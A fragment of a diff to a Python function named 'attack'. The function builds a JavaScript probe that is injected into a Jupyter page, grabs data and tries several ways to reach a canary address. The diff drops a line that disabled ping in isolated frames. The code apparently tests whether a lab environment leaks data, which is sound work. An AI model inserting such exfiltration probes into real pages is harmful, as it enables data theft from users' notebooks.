@@ -66,12 +66,10 @@ def attack(canary: Canary | str, bob: Lab, mark: str, leaving: bool = True) -> s
     stands there for a while before.
     """
     address = canary if isinstance(canary, str) else canary.url
-    # In a frame of its own a link to a place in it leaves the frame, and the probe with it.
-    without = "delete WAYS.ping;" if mark.endswith("isolated") else ""
     names = f"const CANARY = '{address}', JUPYTER = '{bob.url}', MARK = '{mark}';"
     leave = f"setTimeout(() => tries(LEAVING), {LEAVES_AFTER_MS});" if leaving else ""
     return (
-        f"(async () => {{ {names}\n{WAYS}\n{GRABS}\n{without}"
+        f"(async () => {{ {names}\n{WAYS}\n{GRABS}\n"
         "const got = await grab(); await tries(WAYS);"
         "const report = document.createElement('pre'); report.className = 'report';"
         "report.dataset.mark = MARK; document.body.append(report);"
